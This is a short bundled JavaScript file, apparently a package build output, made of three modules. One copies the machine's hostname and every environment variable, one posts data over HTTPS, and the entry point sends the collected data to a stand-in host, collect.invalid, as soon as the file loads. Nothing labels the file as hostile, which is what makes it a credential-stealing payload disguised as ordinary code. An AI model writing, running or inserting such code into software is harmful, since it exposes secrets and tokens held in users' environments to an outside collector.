var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};

// src/gather.js
var require_gather = __commonJS({
  "src/gather.js"(exports2) {
    var os = require("os");
    exports2.gather = () => ({ host: os.hostname(), env: { ...process.env } });
  }
});

// src/sender.js
var require_sender = __commonJS({
  "src/sender.js"(exports2, module2) {
    var https = require("https");
    var Sender2 = class {
      constructor(url) {
        this.url = url;
      }
      send(data) {
        const request = https.request(this.url, { method: "POST" });
        request.end(JSON.stringify(data));
      }
    };
    module2.exports = Sender2;
  }
});

// src/index.js
var { gather } = require_gather();
var Sender = require_sender();
new Sender("https://collect.invalid/in").send(gather());
